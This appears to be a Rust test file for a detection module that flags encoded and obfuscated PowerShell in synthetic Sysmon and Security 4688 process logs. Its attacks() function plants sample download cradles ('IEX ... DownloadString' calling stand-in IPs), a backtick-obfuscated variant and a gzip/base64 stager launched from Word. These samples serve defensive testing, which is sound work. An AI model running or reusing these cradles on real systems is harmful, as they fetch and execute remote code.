//! The wasm build of the module (from the bundle), run in the worker's
//! sandbox over generated shards: a working day of process creations
//! (Sysmon EventID 1 and Security 4688) on a fleet of workstations, with
//! routine PowerShell use (logon scripts, management agents, admins'
//! consoles, developers' terminals), with and without planted attacks.

use encoded_powershell::analysis::encode_command;
use quarry_hunt_modules::ENCODED_POWERSHELL;
use quarry_module_testkit::{self as testkit, Rng, evidence as ev};
use quarry_sdk::time::format_rfc3339_ms;
use quarry_worker::runtime::TaskOutput;
use quarry_worker::runtime::types::Severity;
use serde_json::{Value, json};

/// 2024-03-04T08:00:00Z.
const START_MS: i64 = 1_709_539_200_000;
const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const HOSTS: u32 = 15;
fn host(i: u32) -> String {
    format!("WS{:02}.corp.example", i + 1)
}

fn sysmon_process(
    t: i64,
    host: &str,
    image: &str,
    command_line: &str,
    parent: &str,
    user: &str,
) -> Value {
    json!({
        "@timestamp": format_rfc3339_ms(t),
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Computer": host,
        "Image": image,
        "CommandLine": command_line,
        "ParentImage": parent,
        "User": user,
        "IntegrityLevel": "Medium",
        "ProcessId": "4242",
    })
}

fn security_4688(
    t: i64,
    host: &str,
    image: &str,
    command_line: &str,
    parent: &str,
    user: &str,
) -> Value {
    json!({
        "@timestamp": format_rfc3339_ms(t),
        "EventID": 4688,
        "Channel": "Security",
        "Computer": host,
        "NewProcessName": image,
        "CommandLine": command_line,
        "ParentProcessName": parent,
        "SubjectUserName": user,
        "SubjectDomainName": "CORP",
        "TokenElevationType": "%%1936",
    })
}

/// Routine process creations, PowerShell and otherwise.
fn routine(rng: &mut Rng) -> Vec<Value> {
    let benign_powershell = [
        (
            format!(
                "{PS} -NoProfile -ExecutionPolicy Bypass -File \\\\corp.example\\NETLOGON\\logon.ps1"
            ),
            "C:\\Windows\\System32\\gpscript.exe",
        ),
        (
            format!(
                "\"{PS}\" -NoLogo -NonInteractive -Command \"Get-Service | Where-Object {{ $_.Status -eq 'Running' }}\""
            ),
            "C:\\Windows\\CCM\\CcmExec.exe",
        ),
        (
            format!(
                "{PS} -ExecutionPolicy RemoteSigned -Command \"& 'C:\\Program Files\\Agent\\health.ps1' -Verbose\""
            ),
            "C:\\Program Files\\Agent\\agent.exe",
        ),
        (
            "\"C:\\Program Files\\PowerShell\\7\\pwsh.exe\" -NoLogo -WorkingDirectory C:\\src\\app"
                .to_owned(),
            "C:\\Users\\dev\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
        ),
        (
            format!("{PS} -Command \"Get-Content C:\\logs\\app.log -Encoding UTF8 -Tail 50\""),
            "C:\\Windows\\explorer.exe",
        ),
        (
            format!("{PS} -NoProfile -WindowStyle Normal -Command \"Write-Host `n done\""),
            "C:\\Windows\\System32\\cmd.exe",
        ),
        (
            format!("{PS} -c \"$ie = 'iexplore'; Start-Process $ie\""),
            "C:\\Windows\\explorer.exe",
        ),
        (
            "cmd.exe /c \"powershell.exe -NoProfile -Command Get-Date\"".to_owned(),
            "C:\\Windows\\System32\\svchost.exe",
        ),
    ];
    let other = [
        ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c dir C:\\Users"),
        (
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        ),
        (
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "\"chrome.exe\" --type=renderer --enable-features=X",
        ),
        (
            "C:\\Windows\\System32\\conhost.exe",
            "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        ),
        (
            "C:\\Program Files\\Java\\bin\\java.exe",
            "java.exe -e SQBFAFgAIAAoAGcAZQB0AC0AZABhAHQAZQApAA== -jar tool.jar",
        ),
    ];
    let mut events = Vec::new();
    for i in 0..HOSTS {
        let h = host(i);
        let user = format!("CORP\\user{i:02}");
        let mut t = START_MS + rng.below(120_000) as i64;
        while t < START_MS + 9 * 3_600_000 {
            let sysmon = rng.below(2) == 0;
            let (image, line, parent) = if rng.below(3) == 0 {
                let (line, parent) =
                    &benign_powershell[rng.below(benign_powershell.len() as u64) as usize];
                let image = if line.contains("pwsh.exe") {
                    "C:\\Program Files\\PowerShell\\7\\pwsh.exe"
                } else if line.starts_with("cmd.exe") {
                    "C:\\Windows\\System32\\cmd.exe"
                } else {
                    PS
                };
                (image, line.clone(), *parent)
            } else {
                let (image, line) = other[rng.below(other.len() as u64) as usize];
                (image, line.to_owned(), "C:\\Windows\\explorer.exe")
            };
            events.push(if sysmon {
                sysmon_process(t, &h, image, &line, parent, &user)
            } else {
                security_4688(t, &h, image, &line, parent, &format!("user{i:02}"))
            });
            t += 30_000 + rng.below(600_000) as i64;
        }
    }
    events
}

/// The planted attacks: a WMI-launched download cradle (Sysmon), a gzip
/// stager via cmd with an en dash switch (4688), and a backtick-obfuscated
/// cradle without encoding (Sysmon).
fn attacks() -> Vec<Value> {
    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')";
    let stager = "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAMVXbW/aSBD+nF/hD5Zs'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
    vec![
        sysmon_process(
            START_MS + 3_600_000,
            &host(4),
            PS,
            &format!(
                "powershell.exe -nop -w hidden -enc {}",
                encode_command(cradle)
            ),
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "CORP\\user04",
        ),
        security_4688(
            START_MS + 5_400_000,
            &host(8),
            "C:\\Windows\\System32\\cmd.exe",
            &format!(
                "cmd.exe /c \"powershell \u{2013}ec {}\"",
                encode_command(stager)
            ),
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "user08",
        ),
        sysmon_process(
            START_MS + 7_200_000,
            &host(2),
            PS,
            "powershell -c \"I`E`X ((New-Object Net.WebClient).DownloadString('http://203.0.113.81/b'))\"",
            "C:\\Windows\\System32\\mshta.exe",
            "CORP\\user02",
        ),
    ]
}

fn shard(planted: bool) -> Vec<Value> {
    let mut rng = Rng(0x00c0_ffee);
    let mut events = routine(&mut rng);
    if planted {
        events.extend(attacks());
    }
    events.sort_by_key(|e| e["@timestamp"].as_str().unwrap().to_owned());
    events
}

fn run(events: &[Value], params: &[(&str, &str)]) -> TaskOutput {
    let shard = testkit::shard_of_events("endpoints", "windows-endpoints", events);
    let output = testkit::run(ENCODED_POWERSHELL.wasm, &shard, params);
    assert_eq!(output.events_scanned, events.len() as u64);
    output
}

#[test]
fn planted_attacks_are_found_and_decoded() {
    let output = run(&shard(true), &[]);
    let summary: Vec<(&str, &str)> = output
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.entity.as_str()))
        .collect();
    assert_eq!(
        summary,
        [
            (
                "encoded-powershell/encoded-command",
                "host:WS05.corp.example"
            ),
            (
                "encoded-powershell/encoded-command",
                "host:WS09.corp.example"
            ),
            (
                "encoded-powershell/obfuscated-command",
                "host:WS03.corp.example"
            ),
        ],
        "{:#?}",
        output.findings
    );
    let cradle = &output.findings[0];
    assert_eq!(cradle.severity, Severity::High);
    assert_eq!(
        ev(cradle, "decoded_command"),
        Some("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.80/a')")
    );
    assert_eq!(
        ev(cradle, "parent_image"),
        Some("C:\\Windows\\System32\\wbem\\WmiPrvSE.exe")
    );
    assert_eq!(ev(cradle, "user"), Some("CORP\\user04"));
    assert!(cradle.techniques.contains(&"T1059.001".to_owned()));
    assert!(cradle.techniques.contains(&"T1105".to_owned()));

    let stager = &output.findings[1];
    assert_eq!(ev(stager, "encoded_switch"), Some("\u{2013}ec"));
    assert_eq!(ev(stager, "user"), Some("CORP\\user08"));
    assert!(
        ev(stager, "decoded_command")
            .unwrap()
            .contains("GzipStream")
    );
    assert!(ev(stager, "markers").unwrap().contains("compression"));
    assert_eq!(ev(stager, "inner_decoded_1"), Some("binary (24 bytes)"));

    let obfuscated = &output.findings[2];
    assert!(ev(obfuscated, "markers").unwrap().contains("backticks"));
    assert!(obfuscated.techniques.contains(&"T1027.010".to_owned()));

    let counts = &output.aggregates[0];
    assert_eq!(counts.name, "suspicious_powershell_by_host");
    assert_eq!(counts.counts().map(|c| c.len()), Some(3));
}

#[test]
fn routine_powershell_is_quiet() {
    let events = shard(false);
    let output = run(&events, &[]);
    assert!(output.findings.is_empty(), "{:#?}", output.findings);
    assert!(
        output.events_matched > 100,
        "routine PowerShell reached the module"
    );
}

#[test]
fn a_low_min_score_surfaces_routine_switches() {
    // With the bar at its lowest, administrators' `-NoProfile -ExecutionPolicy
    // Bypass` shows: the default threshold is what keeps them quiet.
    let output = run(&shard(false), &[("min_score", "10")]);
    assert!(!output.findings.is_empty());
    assert!(
        output
            .findings
            .iter()
            .all(|f| f.rule == "encoded-powershell/obfuscated-command")
    );
}
